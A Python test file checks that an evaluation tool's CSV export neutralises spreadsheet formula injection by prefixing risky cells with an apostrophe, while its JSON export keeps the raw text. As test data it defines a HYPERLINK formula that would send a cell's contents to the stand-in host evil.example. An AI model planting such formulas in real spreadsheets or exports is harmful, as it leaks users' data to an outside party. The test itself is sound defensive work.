"""A run's CSV export is safe to open in a spreadsheet; its JSON export keeps the exact text."""

from __future__ import annotations

import csv
import json

from llmplay.evaluation.results import Cell, RunInfo, RunResults

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


def _results() -> RunResults:
    column = {"title": "A", "template": "t", "model": "m", "variables": {"text": "text"}, "template_version": 1}
    config = {"columns": [column], "resolved": {"columns": [column], "reference": "label"}}
    info = RunInfo(1, "run", "done", "ds", 1, 1, 1, 1, 0, 0, "2024-01-01", None, 1.0, None, config, {"metrics": []})
    cell = Cell(
        0,
        0,
        text=LINK,
        answer="@SUM(A1)",
        scores={"exact": -1.0},
        latency_s=0.5,
        completion_tokens=3,
        cached=False,
        error=None,
    )
    return RunResults(info, rows=[{"text": "+1 then =2", "label": "-3"}], source_index=[0], cells={(0, 0): cell})


def test_csv_cells_that_start_a_formula_are_text_and_json_stays_raw(tmp_path):
    csv_path, json_path = _results().export(tmp_path)
    row = next(csv.DictReader(csv_path.open(encoding="utf-8", newline="")))
    assert (row["output"], row["answer"], row["input.text"]) == ("'" + LINK, "'@SUM(A1)", "'+1 then =2")
    assert (row["reference"], row["score.exact"]) == ("-3", "-1.0")  # numbers cannot run anything
    cells = json.loads(json_path.read_text(encoding="utf-8"))["cells"]
    assert (cells[0]["output"], cells[0]["answer"], cells[0]["input.text"]) == (LINK, "@SUM(A1)", "+1 then =2")
